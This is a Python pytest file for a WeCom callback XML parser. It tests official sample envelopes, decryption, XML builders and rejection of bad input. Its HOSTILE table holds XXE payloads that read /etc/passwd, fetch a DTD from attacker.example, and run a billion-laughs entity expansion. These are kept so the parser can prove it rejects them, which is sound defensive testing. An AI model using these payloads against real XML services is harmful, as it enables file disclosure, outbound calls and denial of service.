"""Tests for wecom_bundle.callback.xml_parser: official envelopes, hostile XML, encodings and builder round trips.

Envelope vectors are the POST bodies of WeCom's official samples (sbzhu/weworkapi_php callback/Sample.php,
the official C# Sample.cs, sbzhu/weworkapi_python callback/Sample.py) and wechatpy tests/test_crypto.py.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wecom_bundle.callback.crypto import MsgCrypto, XmlParseError
from wecom_bundle.callback.xml_parser import (
    MAX_XML_BYTES,
    Envelope,
    build_envelope,
    build_event_xml,
    parse_envelope,
    parse_event,
)

# Vectors copied from the same sources as tests/unit/callback/test_crypto.py (kept local so the files stay independent).
OFFICIAL_TOKEN = "QDG6eK"
OFFICIAL_AES_KEY = "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C"
OFFICIAL_CORP_ID = "wx5823bf96d3bd56c7"
OFFICIAL_REQ_MSG_SIG = "477715d11cdb4164915debcba66cb864d751f3e6"
OFFICIAL_REQ_TIMESTAMP = "1409659813"
OFFICIAL_REQ_NONCE = "1372623149"
OFFICIAL_REQ_ENCRYPT = (
    "RypEvHKD8QQKFhvQ6QleEB4J58tiPdvo+rtK1I9qca6aM/wvqnLSV5zEPeusUiX5L5X/0lWfrf0QADHHhGd3QczcdCUpj911L3vg3W/sYYvu"
    "JTs3TUUkSUXxaccAS0qhxchrRYt66wiSpGLYL42aM6A8dTT+6k4aSknmPj48kzJs8qLjvd4Xgpue06DOdnLxAUHzM6+kDZ+HMZfJYuR+Ltw"
    "Gc2hgf5gsijff0ekUNXZiqATP7PF5mZxZ3Izoun1s4zG4LUMnvw2r+KqCKIw+3IQH03v+BCA9nMELNqbSf6tiWSrXJB3LAVGUcallcrw8V"
    "2t9EL4EhzJWrQUax5wLVMNS0+rUPA3k22Ncx4XXZS9o0MBH27Bo6BpNelZpS+/uh9KsNlY6bHCmJU9p8g7m3fVKn28H3KDYA5Pl/T8Z1ptD"
    "AVe0lXdQ2YoyyH2uyPIGHBZZIs2pDBS8R07+qN+E7Q=="
)
PY_TOKEN = "hJqcu3uJ9Tn2gXPmxx2w9kkCkCE2EPYo"
PY_AES_KEY = "6qkdMrq68nTKduznJYO1A37W2oEgpkMUvkttRToqhUt"
PY_CORP_ID = "ww1436e0e65a779aee"
PY_REQ_MSG_SIG = "0c3914025cb4b4d68103f6bfc8db550f79dcf48e"
PY_REQ_TIMESTAMP = "1476422779"
PY_REQ_NONCE = "1597212914"
PY_REQ_ENCRYPT = (
    "Kl7kjoSf6DMD1zh7rtrHjFaDapSCkaOnwu3bqLc5tAybhhMl9pFeK8NslNPVdMwmBQTNoW4mY7AIjeLvEl3NyeTkAgGzBhzTtRLNshw2AEew"
    "+kkYcD+Fq72Kt00fT0WnN87hGrW8SqGc+NcT3mu87Ha3dz1pSDi6GaUA6A0sqfde0VJPQbZ9U+3JWcoD4Z5jaU0y9GSh010wsHF8KZD24Yhm"
    "ZH4ch4Ka7ilEbjbfvhKkNL65HHL0J6EYJIZUC2pFrdkJ7MhmEbU2qARR4iQHE7wy24qy0cRX3Mfp6iELcDNfSsPGjUQVDGxQDCWjayJOpcwo"
    "cugux082f49HKYg84EpHSGXAyh+/oxwaWbvL6aSDPOYuPDGOCI8jmnKiypE+"
)
WP_DECRYPT_ENCRYPT = (
    "RgqEoJj5A4EMYlLvWO1F86ioRjZfaex/gePD0gOXTxpsq5Yj4GNglrBb8I2BAJVODGajiFnXBu7mCPatfjsu6IHCrsTyeDXzF6Bv283dGymz"
    "xh6ydJRvZsryDyZbLTE7rhnus50qGPMfp2wASFlzEgMW9z1ef/RD8XzaFYgm7iTdaXpXaG4+BiYyolBug/gYNx410cvkKR2/nPwBiT+P4hIi"
    "OAQqGp/TywZBtDh1yCF2KOd0gpiMZ5jSw3e29mTvmUHzkVQiMS6td7vXUaWOMZnYZlF3So2SjHnwh4jYFxdgpkHHqIrH/54SNdshoQgWYEvc"
    "cTKe7FS709/5t6NMxuGhcUGAPOQipvWTT4dShyqio7mlsl5noTrb++x6En749zCpQVhDpbV6GDnTbcX2e8K9QaNWHp91eBdCRxthuL0="
)

# sReqData of Sample.php / Sample.cs (one line, AgentID 218).
OFFICIAL_REQ_DATA = (
    "<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName><Encrypt><![CDATA["
    + OFFICIAL_REQ_ENCRYPT
    + "]]></Encrypt><AgentID><![CDATA[218]]></AgentID></xml>"
).encode()
# sReqData of the official Python Sample.py (newline-separated children).
PY_REQ_DATA = (
    "<xml><ToUserName><![CDATA[ww1436e0e65a779aee]]></ToUserName>\n<Encrypt><![CDATA["
    + PY_REQ_ENCRYPT
    + "]]></Encrypt>\n<AgentID><![CDATA[1000002]]></AgentID>\n</xml>"
).encode()
# wechatpy test_decrypt_message body.
WP_REQ_DATA = (
    "<xml><ToUserName><![CDATA[wx49f0ab532d5d035a]]></ToUserName>\n<Encrypt><![CDATA["
    + WP_DECRYPT_ENCRYPT
    + "]]></Encrypt>\n<AgentID><![CDATA[1]]></AgentID>\n</xml>"
).encode()

# The add_external_contact event from the design seeds (WeCom's documented example).
SEED_EVENT_XML = """<xml>
<ToUserName><![CDATA[CorpID]]></ToUserName>
<FromUserName><![CDATA[sys]]></FromUserName>
<CreateTime>1403610513</CreateTime>
<MsgType><![CDATA[event]]></MsgType>
<Event><![CDATA[change_external_contact]]></Event>
<ChangeType><![CDATA[add_external_contact]]></ChangeType>
<UserID><![CDATA[zhangsan]]></UserID>
<ExternalUserID><![CDATA[woAJ2GCAAAXtWyujaWJHDDGi0mAAAA]]></ExternalUserID>
<State><![CDATA[渠道来源标识]]></State>
<WelcomeCode><![CDATA[WELCOMECODE]]></WelcomeCode>
</xml>"""
SEED_EVENT_FIELDS = {
    "ToUserName": "CorpID",
    "FromUserName": "sys",
    "CreateTime": "1403610513",
    "MsgType": "event",
    "Event": "change_external_contact",
    "ChangeType": "add_external_contact",
    "UserID": "zhangsan",
    "ExternalUserID": "woAJ2GCAAAXtWyujaWJHDDGi0mAAAA",
    "State": "渠道来源标识",
    "WelcomeCode": "WELCOMECODE",
}


def _rejects(parse, data: bytes) -> XmlParseError:
    with pytest.raises(XmlParseError) as info:
        parse(data)
    assert info.value.code == -40002
    return info.value


# ---------------------------------------------------------------------------------------------------
# Official envelopes, end to end
# ---------------------------------------------------------------------------------------------------


class TestOfficialEnvelopes:
    def test_official_sample_envelope(self) -> None:
        env = parse_envelope(OFFICIAL_REQ_DATA)
        assert env == Envelope(
            to_user_name="wx5823bf96d3bd56c7", encrypt=OFFICIAL_REQ_ENCRYPT, agent_id="218"
        )

    def test_official_sample_full_pipeline(self) -> None:
        env = parse_envelope(OFFICIAL_REQ_DATA)
        c = MsgCrypto(OFFICIAL_TOKEN, OFFICIAL_AES_KEY, OFFICIAL_CORP_ID)
        plaintext = c.decrypt_message(
            OFFICIAL_REQ_MSG_SIG, OFFICIAL_REQ_TIMESTAMP, OFFICIAL_REQ_NONCE, env.encrypt
        )
        assert parse_event(plaintext) == {
            "ToUserName": "wx5823bf96d3bd56c7",
            "FromUserName": "mycreate",
            "CreateTime": "1409659813",
            "MsgType": "text",
            "Content": "hello",
            "MsgId": "4561255354251345929",
            "AgentID": "218",
        }

    def test_python_sample_full_pipeline(self) -> None:
        env = parse_envelope(PY_REQ_DATA)
        assert env == Envelope(to_user_name=PY_CORP_ID, encrypt=PY_REQ_ENCRYPT, agent_id="1000002")
        c = MsgCrypto(PY_TOKEN, PY_AES_KEY, PY_CORP_ID)
        event = parse_event(c.decrypt_message(PY_REQ_MSG_SIG, PY_REQ_TIMESTAMP, PY_REQ_NONCE, env.encrypt))
        assert event == {
            "ToUserName": "ww1436e0e65a779aee",
            "FromUserName": "ChenJiaShun",
            "CreateTime": "1476422779",
            "MsgType": "text",
            "Content": "你好",
            "MsgId": "1456453720",
            "AgentID": "1000002",
        }

    def test_wechatpy_envelope(self) -> None:
        assert parse_envelope(WP_REQ_DATA) == Envelope(
            to_user_name="wx49f0ab532d5d035a", encrypt=WP_DECRYPT_ENCRYPT, agent_id="1"
        )

    def test_envelope_without_agent_id(self) -> None:
        body = b"<xml><ToUserName><![CDATA[ww1]]></ToUserName><Encrypt><![CDATA[abcd]]></Encrypt></xml>"
        assert parse_envelope(body) == Envelope(to_user_name="ww1", encrypt="abcd", agent_id="")

    def test_seed_event(self) -> None:
        assert parse_event(SEED_EVENT_XML.encode("utf-8")) == SEED_EVENT_FIELDS

    def test_utf8_declaration_and_bom_accepted(self) -> None:
        declared = b'<?xml version="1.0" encoding="UTF-8"?><xml><A><![CDATA[x]]></A></xml>'
        assert parse_event(declared) == {"A": "x"}
        assert parse_event(b"\xef\xbb\xbf<xml><A>1</A></xml>") == {"A": "1"}

    def test_empty_elements_are_empty_strings(self) -> None:
        assert parse_event(b"<xml><A/><B></B><C><![CDATA[]]></C></xml>") == {"A": "", "B": "", "C": ""}

    def test_bytearray_accepted(self) -> None:
        assert parse_event(bytearray(b"<xml><A>1</A></xml>")) == {"A": "1"}


# ---------------------------------------------------------------------------------------------------
# Hostile and malformed XML
# ---------------------------------------------------------------------------------------------------

HOSTILE = {
    "doctype": b"<!DOCTYPE xml><xml><Encrypt>abcd</Encrypt></xml>",
    "internal_entity": (
        b'<!DOCTYPE xml [<!ENTITY e "abcd">]><xml><ToUserName>a</ToUserName><Encrypt>&e;</Encrypt></xml>'
    ),
    "billion_laughs": (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        b"<xml><Encrypt>&lol3;</Encrypt></xml>"
    ),
    "external_entity": (
        b'<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Encrypt>&xxe;</Encrypt></xml>'
    ),
    "external_dtd": b'<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><Encrypt>abcd</Encrypt></xml>',
    "parameter_entity": (
        b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
        b"<xml><Encrypt>abcd</Encrypt></xml>"
    ),
    "undefined_entity": b"<xml><Encrypt>&undefined;</Encrypt></xml>",
}

MALFORMED = {
    "empty": b"",
    "not_xml": b"hello",
    "truncated": b"<xml><Encrypt><![CDATA[abcd]]></Encrypt>",
    "json": b'{"encrypt": "abcd"}',
    "wrong_root": b"<root><Encrypt>abcd</Encrypt></root>",
    "root_attribute": b'<xml a="1"><Encrypt>abcd</Encrypt></xml>',
    "root_text": b"<xml>junk<Encrypt>abcd</Encrypt></xml>",
    "tail_text": b"<xml><Encrypt>abcd</Encrypt>junk</xml>",
    "nested": b"<xml><Encrypt><Inner>abcd</Inner></Encrypt></xml>",
    "child_attribute": b'<xml><Encrypt a="1">abcd</Encrypt></xml>',
    "duplicate": b"<xml><Encrypt>abcd</Encrypt><Encrypt>efgh</Encrypt></xml>",
    "namespaced": b'<xml xmlns:x="urn:x"><x:Encrypt>abcd</x:Encrypt></xml>',
    "two_roots": b"<xml><Encrypt>abcd</Encrypt></xml><xml/>",
}

NON_UTF8 = {
    "gbk": "<xml><Encrypt>abcd</Encrypt><State>渠道</State></xml>".encode("gbk"),
    "latin1": '<?xml version="1.0" encoding="ISO-8859-1"?><xml><Encrypt>é</Encrypt></xml>'.encode("latin-1"),
    "utf16": "<xml><Encrypt>abcd</Encrypt></xml>".encode("utf-16"),
    "gbk_declared_on_utf8": b'<?xml version="1.0" encoding="GBK"?><xml><Encrypt>abcd</Encrypt></xml>',
    "lone_continuation": b"<xml><Encrypt>ab\x80cd</Encrypt></xml>",
}


class TestRejection:
    @pytest.mark.parametrize("name", sorted(HOSTILE))
    def test_envelope_rejects_dtd_and_entities(self, name: str) -> None:
        _rejects(parse_envelope, HOSTILE[name])

    @pytest.mark.parametrize("name", sorted(HOSTILE))
    def test_event_rejects_dtd_and_entities(self, name: str) -> None:
        _rejects(parse_event, HOSTILE[name])

    @pytest.mark.parametrize("name", ["doctype", "internal_entity", "billion_laughs"])
    def test_hostile_controls_are_well_formed(self, name: str) -> None:
        # Control: a plain parser accepts these, so their rejection above is the hardening, not a typo.
        from xml.etree.ElementTree import fromstring

        assert fromstring(HOSTILE[name]).find("Encrypt") is not None

    @pytest.mark.parametrize("name", sorted(MALFORMED))
    def test_envelope_rejects_malformed(self, name: str) -> None:
        _rejects(parse_envelope, MALFORMED[name])

    @pytest.mark.parametrize("name", sorted(set(MALFORMED) - {"nested"}))
    def test_event_rejects_malformed(self, name: str) -> None:
        _rejects(parse_event, MALFORMED[name])

    def test_event_keeps_nested_children_as_empty_fields(self) -> None:
        # WeCom's batch-job events nest; they must still parse so they can be acknowledged.
        body = b"<xml><MsgType>event</MsgType><BatchJob><JobId>j</JobId></BatchJob></xml>"
        assert parse_event(body) == {"MsgType": "event", "BatchJob": ""}

    @pytest.mark.parametrize("name", sorted(NON_UTF8))
    def test_rejects_non_utf8(self, name: str) -> None:
        # Rejected for the encoding itself, not by accident of some later check.
        reasons = {"body is not UTF-8", "declared encoding is not UTF-8"}
        assert _rejects(parse_envelope, NON_UTF8[name]).reason in reasons
        assert _rejects(parse_event, NON_UTF8[name]).reason in reasons

    @pytest.mark.parametrize(
        "body",
        [
            b"<xml><ToUserName>a</ToUserName></xml>",
            b"<xml><ToUserName>a</ToUserName><Encrypt></Encrypt></xml>",
            b"<xml><Encrypt><![CDATA[]]></Encrypt></xml>",
            b"<xml><Encrypt/></xml>",
            b"<xml><Encrypt>  \n </Encrypt></xml>",
        ],
    )
    def test_envelope_requires_encrypt(self, body: bytes) -> None:
        _rejects(parse_envelope, body)

    def test_rejects_str_input(self) -> None:
        _rejects(parse_envelope, "<xml><Encrypt>abcd</Encrypt></xml>")  # type: ignore[arg-type]
        _rejects(parse_event, None)  # type: ignore[arg-type]

    def test_rejects_oversized_body(self) -> None:
        body = b"<xml><Encrypt>" + b"A" * MAX_XML_BYTES + b"</Encrypt></xml>"
        _rejects(parse_envelope, body)

    def test_error_does_not_echo_payload(self) -> None:
        err = _rejects(parse_envelope, b"<xml><Encrypt>SECRETPAYLOAD</Encrypt><oops></xml>")
        assert "SECRETPAYLOAD" not in f"{err} {err!r} {err.reason}"
        assert err.__cause__ is None


# ---------------------------------------------------------------------------------------------------
# Builders
# ---------------------------------------------------------------------------------------------------


class TestBuilders:
    def test_build_event_xml_shape(self) -> None:
        xml = build_event_xml({"ToUserName": "CorpID", "CreateTime": 1403610513, "State": "渠道"})
        assert xml == (
            "<xml><ToUserName><![CDATA[CorpID]]></ToUserName><CreateTime>1403610513</CreateTime>"
            "<State><![CDATA[渠道]]></State></xml>"
        )

    def test_build_event_xml_round_trips_seed(self) -> None:
        fields: dict[str, str | int] = dict(SEED_EVENT_FIELDS)
        fields["CreateTime"] = 1403610513
        assert parse_event(build_event_xml(fields).encode()) == SEED_EVENT_FIELDS

    def test_cdata_terminator_is_split(self) -> None:
        xml = build_event_xml({"Content": "a]]>b"})
        assert xml == "<xml><Content><![CDATA[a]]]]><![CDATA[>b]]></Content></xml>"
        assert parse_event(xml.encode()) == {"Content": "a]]>b"}

    @pytest.mark.parametrize(
        "value", ["]]>", "]]]]>>", "]]>]]>", "x]]", "]]", "<![CDATA[", "&lt;&amp;", "<a/>"]
    )
    def test_tricky_values_round_trip(self, value: str) -> None:
        assert parse_event(build_event_xml({"V": value}).encode()) == {"V": value}

    def test_carriage_return_survives(self) -> None:
        xml = build_event_xml({"V": "a\r\nb\rc"})
        assert "&#13;" in xml
        assert parse_event(xml.encode()) == {"V": "a\r\nb\rc"}

    @pytest.mark.parametrize("value", ["\x00", "a\x01b", "\ufffe", "\ud800"])
    def test_unrepresentable_characters_rejected(self, value: str) -> None:
        with pytest.raises(ValueError, match="cannot represent"):
            build_event_xml({"V": value})

    @pytest.mark.parametrize("tag", ["", "1abc", "a b", "a<b", "x:y", "a>"])
    def test_invalid_tag_rejected(self, tag: str) -> None:
        with pytest.raises(ValueError, match="invalid element name"):
            build_event_xml({tag: "v"})

    @pytest.mark.parametrize("value", [True, 1.5, None, b"bytes"])
    def test_invalid_value_type_rejected(self, value: object) -> None:
        with pytest.raises(TypeError):
            build_event_xml({"V": value})  # type: ignore[dict-item]

    def test_build_envelope_shape(self) -> None:
        assert build_envelope("ww1", "abc+/=", "1000002") == (
            "<xml><ToUserName><![CDATA[ww1]]></ToUserName><Encrypt><![CDATA[abc+/=]]></Encrypt>"
            "<AgentID><![CDATA[1000002]]></AgentID></xml>"
        )
        assert parse_envelope(build_envelope("ww1", "abc", "").encode()) == Envelope("ww1", "abc", "")

    def test_simulated_callback_end_to_end(self) -> None:
        c = MsgCrypto(OFFICIAL_TOKEN, OFFICIAL_AES_KEY, OFFICIAL_CORP_ID)
        fields: dict[str, str | int] = dict(SEED_EVENT_FIELDS)
        fields["CreateTime"] = 1403610513
        encrypted = c.encrypt(build_event_xml(fields).encode("utf-8"))
        body = build_envelope(OFFICIAL_CORP_ID, encrypted).encode("utf-8")
        signature = c.sign("1403610513", "nonce1", encrypted)
        env = parse_envelope(body)
        assert env.to_user_name == OFFICIAL_CORP_ID
        assert env.agent_id == ""
        assert (
            parse_event(c.decrypt_message(signature, "1403610513", "nonce1", env.encrypt))
            == SEED_EVENT_FIELDS
        )


xml_text = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs",),
        blacklist_characters="".join(chr(c) for c in range(0x20) if c not in (0x09, 0x0A, 0x0D))
        + "\ufffe\uffff",
    ),
    max_size=80,
)
tags = st.from_regex(r"[A-Za-z_][A-Za-z0-9_.-]{0,15}", fullmatch=True)
values = st.one_of(xml_text, st.integers(min_value=-(2**63), max_value=2**64))


@settings(max_examples=200, deadline=None)
@given(fields=st.dictionaries(tags, values, max_size=12))
def test_event_round_trip_property(fields: dict[str, str | int]) -> None:
    parsed = parse_event(build_event_xml(fields).encode("utf-8"))
    assert parsed == {tag: str(value) for tag, value in fields.items()}
    assert list(parsed) == list(fields)


@settings(max_examples=200, deadline=None)
@given(to_user=xml_text, encrypt=xml_text.filter(lambda s: s.strip() != ""), agent_id=xml_text)
def test_envelope_round_trip_property(to_user: str, encrypt: str, agent_id: str) -> None:
    assert parse_envelope(build_envelope(to_user, encrypt, agent_id).encode("utf-8")) == Envelope(
        to_user, encrypt, agent_id
    )
